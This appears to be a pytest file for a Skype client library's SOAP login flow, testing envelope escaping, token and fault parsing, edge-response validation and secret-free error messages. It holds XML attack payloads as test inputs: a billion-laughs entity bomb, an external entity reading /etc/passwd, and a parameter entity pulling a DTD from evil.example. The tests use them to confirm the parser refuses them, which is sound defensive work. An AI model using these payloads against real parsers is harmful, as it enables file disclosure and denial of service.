"""SOAP login (docs/protocol.md §2.1), driven with canned responses.

Branches of §2.1 covered here (and the §12.20 fixes):
- envelope: element structure and namespaces, escaping order & < >, quotes kept, UTF-8 body with
  no Content-Type, exact request line and headers
- RST answer: token found (entities decoded), a later BinarySecurityToken overwrites an earlier
  one, no token / empty token -> RemoteProtocolError "Couldn't retrieve security token ..."
- Fault (SOAP 1.1): code and string, missing string, missing code -> "None" parts; empty fault
  -> "Unknown fault ..."; a fault after a token still raises; fault with HTTP 500 is parsed
- Fault (SOAP 1.2): Code/Value (+ Subcode chain) and Reason/Text
- non-XML body, DOCTYPE, billion laughs, external entity -> RemoteProtocolError (quickly)
- RST status: 500 without a fault -> ApiError "500 response from POST ..."; 429 -> rate limit
- edge: exact form; skypetoken + expiresIn (int, integer string), no expiresIn -> default
  lifetime; not JSON; JSON list; status object (full, partial, not an object); neither member;
  expiresIn not an integer / float / bool / negative / huge / null; skypetoken null or empty;
  edge 500 and 429
- Hosts mapping of both URLs; secrets never in exception messages
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import time
import xml.etree.ElementTree as ET

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from skyproto import (
    Hosts,
    HttpRequest,
    HttpResponse,
    RemoteProtocolError,
    SkypeApiException,
    SkypeAuthException,
    SkypeException,
    SkypeRateLimitException,
)
from skyproto.auth import soap_login
from skyproto.auth.soap import (
    parse_edge_response,
    parse_security_token,
    parse_xml,
    security_token_envelope,
    xml_escape,
)
from skyproto.emulator.pages import soap_fault, soap_token_response
from skyproto.tokens import DEFAULT_TOKEN_LIFETIME, Credentials, SkypeToken

from . import NOW, UA, assert_clean, assert_same_wire, drive, skpy_requests

PASSWORD = "pa<ss>&w'o\"rd-SECRET"
CREDS = Credentials("fred@example.com", PASSWORD)
SECURITY_TOKEN = "t=EwA-SECURITY-TOKEN&p="
SKYPE_TOKEN = "SKYPE-TOKEN-SECRET"
SECRETS = (PASSWORD, "pa&lt;ss", SECURITY_TOKEN, "EwA-SECURITY-TOKEN", SKYPE_TOKEN)
RST_URL = "https://login.live.com/RST.srf"
EDGE_URL = "https://edge.skype.com/rps/v1/rps/skypetoken"
NS = {
    "s": "http://schemas.xmlsoap.org/soap/envelope/",
    "wsse": "http://schemas.xmlsoap.org/ws/2003/06/secext",
    "wsp": "http://schemas.xmlsoap.org/ws/2002/12/policy",
    "wsa": "http://schemas.xmlsoap.org/ws/2004/03/addressing",
    "wst": "http://schemas.xmlsoap.org/ws/2004/04/trust",
    "ps": "http://schemas.microsoft.com/Passport/SoapServices/PPCRL",
}
FLOOR = dt.datetime.fromtimestamp(1700000000, dt.UTC)


def rst_answer(*tokens: str, extra: str = "") -> HttpResponse:
    body = "".join(
        f"<wsse:BinarySecurityToken Id='Compact{i}'>{t}</wsse:BinarySecurityToken>"
        for i, t in enumerate(tokens)
    )
    return HttpResponse.build(
        200,
        content=(
            '<?xml version="1.0" encoding="utf-8"?>'
            f"<S:Envelope xmlns:S='{NS['s']}' xmlns:wsse='{NS['wsse']}'><S:Body>"
            f"{body}{extra}</S:Body></S:Envelope>"
        ),
        content_type="text/xml",
    )


def fault_11(code: str | None, text: str | None, status: int = 200) -> HttpResponse:
    parts = ""
    if code is not None:
        parts += f"<faultcode>{code}</faultcode>"
    if text is not None:
        parts += f"<faultstring>{text}</faultstring>"
    return HttpResponse.build(
        status,
        content=f"<S:Envelope xmlns:S='{NS['s']}'><S:Body><S:Fault>{parts}</S:Fault>"
        "</S:Body></S:Envelope>",
    )


def edge_answer(data: object, status: int = 200) -> HttpResponse:
    return HttpResponse.build(status, json=data)


GOOD_RST = rst_answer("t=EwA-SECURITY-TOKEN&amp;p=")


def login(responses: list[HttpResponse], sent: list[HttpRequest] | None = None) -> SkypeToken:
    token: SkypeToken = drive(soap_login(CREDS, hosts=Hosts()), responses, sent=sent)
    return token


# -- envelope ------------------------------------------------------------------------------------


def test_escape_order_and_what_is_left_alone() -> None:
    assert xml_escape("a&b<c>d'e\"f") == "a&amp;b&lt;c&gt;d'e\"f"
    assert xml_escape("&lt;") == "&amp;lt;"  # & first, so existing entities are escaped once
    assert xml_escape("pässwörd") == "pässwörd"


def test_envelope_structure_and_values() -> None:
    text = security_token_envelope(Credentials("a&b<c>", "p'\"ä"))
    root = ET.fromstring(text.encode("utf-8"))  # our own document
    assert root.tag == f"{{{NS['s']}}}Envelope"
    assert [child.tag for child in root] == [f"{{{NS['s']}}}Header", f"{{{NS['s']}}}Body"]
    token = root.find("s:Header/wsse:Security/wsse:UsernameToken", NS)
    assert token is not None
    assert token.get("Id") == "user"
    assert token.findtext("wsse:Username", namespaces=NS) == "a&b<c>"
    assert token.findtext("wsse:Password", namespaces=NS) == "p'\"ä"
    rsts = root.find("s:Body/ps:RequestMultipleSecurityTokens", NS)
    assert rsts is not None
    assert rsts.get("Id") == "RSTS"
    rst = rsts.find("wst:RequestSecurityToken", NS)
    assert rst is not None
    assert rst.get("Id") == "RST0"
    assert [child.tag.split("}")[1] for child in rst] == [
        "RequestType",
        "AppliesTo",
        "PolicyReference",
    ]
    assert (
        rst.findtext("wst:RequestType", namespaces=NS)
        == "http://schemas.xmlsoap.org/ws/2004/04/security/trust/Issue"
    )
    assert (
        rst.findtext("wsp:AppliesTo/wsa:EndpointReference/wsa:Address", namespaces=NS)
        == "wl.skype.com"
    )
    policy = rst.find("wsse:PolicyReference", NS)
    assert policy is not None
    assert policy.get("URI") == "MBI_SSL"
    assert list(policy) == []
    assert not policy.text
    # The escaped text, exactly as written.
    assert "<wsse:Username>a&amp;b&lt;c&gt;</wsse:Username>" in text
    assert "<wsse:Password>p'\"ä</wsse:Password>" in text


def test_success_requests_and_result() -> None:
    sent: list[HttpRequest] = []
    token = login(
        [GOOD_RST, edge_answer({"skypetoken": SKYPE_TOKEN, "expiresIn": 86400})], sent=sent
    )
    assert token == SkypeToken(SKYPE_TOKEN, FLOOR + dt.timedelta(seconds=86400))
    rst, edge = sent
    assert (rst.method, rst.url) == ("POST", RST_URL)
    assert rst.headers == (("User-Agent", UA),)  # raw body: no Content-Type
    assert rst.body == security_token_envelope(CREDS).encode("utf-8")
    assert (edge.method, edge.url) == ("POST", EDGE_URL)
    assert edge.headers == (
        ("User-Agent", UA),
        ("Content-Type", "application/x-www-form-urlencoded"),
    )
    # The entity in the answer is decoded before the token is posted on.
    assert edge.body == b"partner=999&access_token=t%3DEwA-SECURITY-TOKEN%26p%3D&scopes=client"


def test_non_ascii_credentials_go_out_as_utf8() -> None:
    sent: list[HttpRequest] = []
    creds = Credentials("jöe@example.com", "pässwörd")
    drive(
        soap_login(creds, hosts=Hosts()),
        [GOOD_RST, edge_answer({"skypetoken": "x", "expiresIn": 1})],
        sent=sent,
    )
    assert "jöe@example.com".encode() in sent[0].body
    assert "<wsse:Password>pässwörd</wsse:Password>".encode() in sent[0].body


def test_hosts_mapping() -> None:
    hosts = Hosts(
        overrides={
            "login.live.com": "http://127.0.0.1:9000/login.live.com",
            "edge.skype.com": "http://127.0.0.1:9000/edge.skype.com",
        }
    )
    sent: list[HttpRequest] = []
    drive(
        soap_login(CREDS, hosts=hosts),
        [GOOD_RST, edge_answer({"skypetoken": "x", "expiresIn": 5})],
        sent=sent,
    )
    assert [r.url for r in sent] == [
        "http://127.0.0.1:9000/login.live.com/RST.srf",
        "http://127.0.0.1:9000/edge.skype.com/rps/v1/rps/skypetoken",
    ]


# -- security-token answer -----------------------------------------------------------------------


def test_later_security_token_overwrites_earlier() -> None:
    assert parse_security_token(rst_answer("first", "second")) == "second"


REAL_TOKEN = "t=EwA-SECURITY-TOKEN&p="


@pytest.mark.parametrize(
    "written",
    [
        "t=EwA-SECURITY-TOKEN&amp;p=",
        "t=EwA-SECURITY-TOKEN&#38;p=",
        "<![CDATA[t=EwA-SECURITY-TOKEN&p=]]>",
        "t=EwA-<![CDATA[SECURITY-TOKEN&]]>p=",
    ],
)
def test_security_token_in_a_real_shaped_answer(written: str) -> None:
    """The answer as RST.srf sends it: a psf:pp header, namespaces declared again on inner
    elements, and a Passport.NET/tb response (no BinarySecurityToken) before ours; the token
    written in any legal XML form."""
    shaped = soap_token_response("@@TOKEN@@", "2024-03-05T14:00:00Z", "2024-03-05T15:00:00Z")
    response = HttpResponse.build(200, content=shaped.replace("@@TOKEN@@", written))
    assert "http://Passport.NET/tb" in response.text
    assert parse_security_token(response) == REAL_TOKEN


def test_real_shaped_fault() -> None:
    response = HttpResponse.build(
        500, content=soap_fault("wsse:FailedAuthentication", "Authentication Failure")
    )
    with pytest.raises(SkypeAuthException) as info:
        login([response])
    assert info.value.message == "wsse:FailedAuthentication - Authentication Failure"


@pytest.mark.parametrize("tokens", [(), ("",), ("   ",), ("first", "")])
def test_no_security_token(tokens: tuple[str, ...]) -> None:
    with pytest.raises(RemoteProtocolError) as info:
        parse_security_token(rst_answer(*tokens))
    assert info.value.message == "Couldn't retrieve security token from login response"


@pytest.mark.parametrize(
    ("code", "text", "message"),
    [
        (
            "wsse:FailedAuthentication",
            "Authentication Failure",
            "wsse:FailedAuthentication - Authentication Failure",
        ),
        ("wsse:FailedAuthentication", None, "wsse:FailedAuthentication - None"),
        ("wsse:FailedAuthentication", "", "wsse:FailedAuthentication - None"),
        (None, "Bad &amp; sad", "None - Bad & sad"),
    ],
)
def test_soap11_fault(code: str | None, text: str | None, message: str) -> None:
    with pytest.raises(SkypeAuthException) as info:
        login([fault_11(code, text)])
    assert info.value.message == message
    assert info.value.status == 200


@pytest.mark.parametrize(("code", "text"), [(None, None), ("", ""), ("  ", None)])
def test_empty_fault_is_unknown(code: str | None, text: str | None) -> None:
    with pytest.raises(RemoteProtocolError) as info:
        login([fault_11(code, text)])
    assert info.value.message == "Unknown fault whilst requesting security token"


def test_fault_after_token_still_raises() -> None:
    answer = rst_answer(
        "tok",
        extra="<S:Fault><faultcode>psf:Redirect</faultcode><faultstring>x</faultstring></S:Fault>",
    )
    with pytest.raises(SkypeAuthException, match=r"^psf:Redirect - x$"):
        parse_security_token(answer)


def test_soap12_fault() -> None:
    body = (
        "<env:Envelope xmlns:env='http://www.w3.org/2003/05/soap-envelope'><env:Body><env:Fault>"
        "<env:Code><env:Value>env:Sender</env:Value><env:Subcode>"
        "<env:Value>wst:FailedAuthentication</env:Value></env:Subcode></env:Code>"
        "<env:Reason><env:Text xml:lang='en-US'>Authentication Failure</env:Text>"
        "<env:Text xml:lang='fr'>Echec</env:Text></env:Reason>"
        "</env:Fault></env:Body></env:Envelope>"
    )
    with pytest.raises(SkypeAuthException) as info:
        login([HttpResponse.build(500, content=body)])
    assert info.value.message == "env:Sender/wst:FailedAuthentication - Authentication Failure"
    assert info.value.status == 500


def test_soap12_fault_reason_only() -> None:
    body = "<Envelope><Body><Fault><Reason><Text>Nope</Text></Reason></Fault></Body></Envelope>"
    with pytest.raises(SkypeAuthException, match=r"^None - Nope$"):
        login([HttpResponse.build(200, content=body)])


def test_fault_with_http_500_is_parsed() -> None:
    with pytest.raises(SkypeAuthException) as info:
        login([fault_11("wsse:FailedAuthentication", "Authentication Failure", status=500)])
    assert info.value.message == "wsse:FailedAuthentication - Authentication Failure"
    assert info.value.status == 500


@pytest.mark.parametrize(
    "body", [b"Internal Server Error", b"", b"<S:Envelope xmlns:S='x'><S:Fault/></S:Envelope>"]
)
def test_http_500_without_a_readable_fault(body: bytes) -> None:
    with pytest.raises(SkypeApiException) as info:
        login([HttpResponse(500, (), body)])
    assert type(info.value) is SkypeApiException
    assert info.value.message == "500 response from POST https://login.live.com/RST.srf"


def test_http_429_is_a_rate_limit_even_with_a_fault() -> None:
    answer = fault_11("a", "b", status=429)
    answer = HttpResponse(429, (("Retry-After", "12"),), answer.body)
    with pytest.raises(SkypeRateLimitException) as info:
        login([answer])
    assert info.value.retry_after == 12.0


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml at all", b"<a><b></a>", b"\xff\xfe\x00garbage", b"<a>&undefined;</a>"],
)
def test_non_xml_answer(body: bytes) -> None:
    with pytest.raises(RemoteProtocolError) as info:
        login([HttpResponse(200, (), body)])
    assert info.value.message == "login response is not well-formed XML"


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<Envelope><BinarySecurityToken>&xxe;</BinarySecurityToken></Envelope>"
)
PLAIN_DOCTYPE = (
    b"<!DOCTYPE Envelope><Envelope><BinarySecurityToken>x</BinarySecurityToken></Envelope>"
)
PARAMETER_ENTITY = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>'


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PLAIN_DOCTYPE, PARAMETER_ENTITY])
def test_dtd_and_entities_are_refused_quickly(body: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(RemoteProtocolError) as info:
        login([HttpResponse(200, (), body)])
    assert time.perf_counter() - started < 0.5
    assert info.value.message == "refusing an XML document with a DOCTYPE or entity declaration"


def test_parse_xml_keeps_namespaces_like_elementtree() -> None:
    root = parse_xml(b"<a:x xmlns:a='urn:a'><y>t</y></a:x>")
    assert root.tag == "{urn:a}x"
    assert [(c.tag, c.text) for c in root] == [("y", "t")]


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_rst_body_parses_or_raises_a_project_error(body: bytes) -> None:
    with contextlib.suppress(SkypeException):
        parse_security_token(HttpResponse(200, (), body))


# -- edge answer ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expiry"),
    [
        ({"skypetoken": "tok", "expiresIn": 86400}, FLOOR + dt.timedelta(seconds=86400)),
        ({"skypetoken": "tok", "expiresIn": "3600"}, FLOOR + dt.timedelta(seconds=3600)),
        ({"skypetoken": "tok", "expiresIn": 0}, FLOOR),
        ({"skypetoken": "tok", "expiresIn": 60.0}, FLOOR + dt.timedelta(seconds=60)),
        ({"skypetoken": "tok"}, NOW + DEFAULT_TOKEN_LIFETIME),
    ],
)
def test_edge_success(data: dict[str, object], expiry: dt.datetime) -> None:
    assert parse_edge_response(edge_answer(data), NOW) == SkypeToken("tok", expiry)


def test_edge_body_not_json() -> None:
    with pytest.raises(RemoteProtocolError) as info:
        login([GOOD_RST, HttpResponse.build(200, content="<html>oops</html>")])
    assert info.value.message == "Couldn't parse edge response body"


@pytest.mark.parametrize("data", [[], ["skypetoken"], "skypetoken", 5, None, True])
def test_edge_body_not_an_object(data: object) -> None:
    answer = HttpResponse.build(200, content=json.dumps(data))
    with pytest.raises(RemoteProtocolError) as info:
        login([GOOD_RST, answer])
    assert info.value.message == "edge response body is not a JSON object"


@pytest.mark.parametrize(
    ("status", "message"),
    [
        (
            {"code": 40120, "text": "Authentication failed. Bad username or password."},
            "40120 - Authentication failed. Bad username or password.",
        ),
        ({"code": 40002}, "40002 - None"),
        ({}, "None - None"),
    ],
)
def test_edge_status_object(status: dict[str, object], message: str) -> None:
    with pytest.raises(SkypeApiException) as info:
        login([GOOD_RST, edge_answer({"status": status})])
    assert type(info.value) is SkypeApiException
    assert info.value.message == message


@pytest.mark.parametrize("status", ["failed", 40120, None, []])
def test_edge_status_not_an_object(status: object) -> None:
    with pytest.raises(RemoteProtocolError, match=r"^edge response has a malformed status member$"):
        parse_edge_response(edge_answer({"status": status}), NOW)


def test_edge_without_token_or_status() -> None:
    with pytest.raises(RemoteProtocolError, match=r"^Couldn't retrieve token from edge response$"):
        parse_edge_response(edge_answer({"skypeid": "fred"}), NOW)


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("1d", "is not an integer number of seconds"),
        (1.5, "is not an integer number of seconds"),
        (True, "is not an integer number of seconds"),
        ([86400], "is not an integer number of seconds"),
        ("", "is not an integer number of seconds"),
        ("1_000", "is not an integer number of seconds"),
        (None, "has no value"),
        (-1, "is out of range"),
        ("-5", "is out of range"),
        (10**30, "is out of range"),
        ("9" * 5000, "is out of range"),
    ],
)
def test_edge_bad_expires_in(value: object, problem: str) -> None:
    with pytest.raises(RemoteProtocolError) as info:
        parse_edge_response(edge_answer({"skypetoken": SKYPE_TOKEN, "expiresIn": value}), NOW)
    assert info.value.message == f"expiresIn in the login answer {problem}"
    assert_clean(info.value, *SECRETS)


@pytest.mark.parametrize("token", [None, "", 42, {"t": 1}])
def test_edge_token_not_a_string(token: object) -> None:
    with pytest.raises(RemoteProtocolError) as info:
        parse_edge_response(edge_answer({"skypetoken": token, "expiresIn": 5}), NOW)
    assert info.value.message == "the edge response's skypetoken is missing or empty"


def test_edge_http_error() -> None:
    with pytest.raises(SkypeApiException) as info:
        login([GOOD_RST, edge_answer({"status": {"code": 1}}, status=500)])
    assert info.value.message == f"500 response from POST {EDGE_URL}"


def test_edge_rate_limited() -> None:
    with pytest.raises(SkypeRateLimitException) as info:
        login([GOOD_RST, HttpResponse(429, (("Retry-After", "30"),), b"")])
    assert info.value.retry_after == 30.0


# -- secrets -------------------------------------------------------------------------------------

ERROR_SCRIPTS = [
    [fault_11("wsse:FailedAuthentication", "Authentication Failure")],
    [fault_11(None, None)],
    [HttpResponse(500, (), b"x")],
    [rst_answer()],
    [HttpResponse(200, (), b"junk")],
    [HttpResponse(200, (), EXTERNAL_ENTITY)],
    [GOOD_RST, HttpResponse(200, (), b"junk")],
    [GOOD_RST, edge_answer(["x"])],
    [GOOD_RST, edge_answer({"status": {"code": 1, "text": "t"}})],
    [GOOD_RST, edge_answer({"nothing": 1})],
    [GOOD_RST, edge_answer({"skypetoken": SKYPE_TOKEN, "expiresIn": "soon"})],
    [GOOD_RST, edge_answer({"skypetoken": ""})],
    [GOOD_RST, HttpResponse(401, (), b"")],
]


@pytest.mark.parametrize("script", ERROR_SCRIPTS)
def test_no_secret_in_any_error(script: list[HttpResponse]) -> None:
    with pytest.raises(SkypeException) as info:
        login(script)
    assert_clean(info.value, *SECRETS)


# -- parity with the reference client ------------------------------------------------------------


@pytest.mark.skpy
def test_requests_match_the_reference_client() -> None:
    creds = Credentials("a&b<c>@example.com", "p'\"ä&<>")
    script = [GOOD_RST, edge_answer({"skypetoken": "tok", "expiresIn": 86400})]
    ours: list[HttpRequest] = []
    drive(soap_login(creds, hosts=Hosts()), script, sent=ours)
    theirs = skpy_requests(lambda conn: conn.soapLogin(creds.user, creds.password), script)[:2]

    def canonical(body: bytes) -> str:
        return ET.canonicalize(body.decode("utf-8"), strip_text=True)

    # The envelope differs only in layout whitespace; the edge request is byte for byte the same.
    assert canonical(ours[0].body) == canonical(theirs[0].body)
    assert_same_wire(
        [attrs.evolve(ours[0], body=b""), ours[1]], [attrs.evolve(theirs[0], body=b""), theirs[1]]
    )
